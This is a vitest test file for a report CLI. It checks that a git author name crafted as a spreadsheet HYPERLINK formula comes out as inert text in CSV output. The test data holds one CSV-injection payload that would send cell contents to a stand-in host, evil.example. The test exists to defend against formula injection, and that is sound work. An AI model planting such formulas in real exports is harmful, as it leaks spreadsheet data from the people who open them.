import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterEach, describe, expect, it } from "vitest";
import { run, tempDir } from "./cli-helpers.js";

const DEMO = fileURLToPath(new URL("../examples/quantecon/demo-2026-05.json", import.meta.url));
const demo = (): Record<string, unknown> & { commits: Record<string, unknown>[]; pullRequests: Record<string, unknown>[] } => JSON.parse(readFileSync(DEMO, "utf8"));

let cleanup: (() => void)[] = [];
afterEach(() => {
  for (const c of cleanup) c();
  cleanup = [];
});
function scratch(): string {
  const t = tempDir("qe-hostile-");
  cleanup.push(t.remove);
  return t.dir;
}
function write(dir: string, name: string, data: unknown): string {
  const path = join(dir, name);
  writeFileSync(path, typeof data === "string" ? data : JSON.stringify(data));
  return path;
}

describe("hostile dataset text in reports", () => {
  it("a git author named like a spreadsheet formula stays text in the CSV", async () => {
    const dir = scratch();
    const data = demo();
    data.commits[0]!["author"] = { login: null, name: '=HYPERLINK("https://evil.example/?"&A2,"x")', email: "a@b" };
    const r = await run(["monthly", "--input", write(dir, "d.json", data), "--format", "csv"]);
    expect(r.code).toBe(0);
    const cells = r.stdout.split("\r\n").flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/));
    expect(cells.some((c) => c.includes("HYPERLINK"))).toBe(true);
    for (const cell of cells) expect(cell.replace(/^"/, "")).not.toMatch(/^[=+@\t\r]/);
  });
});
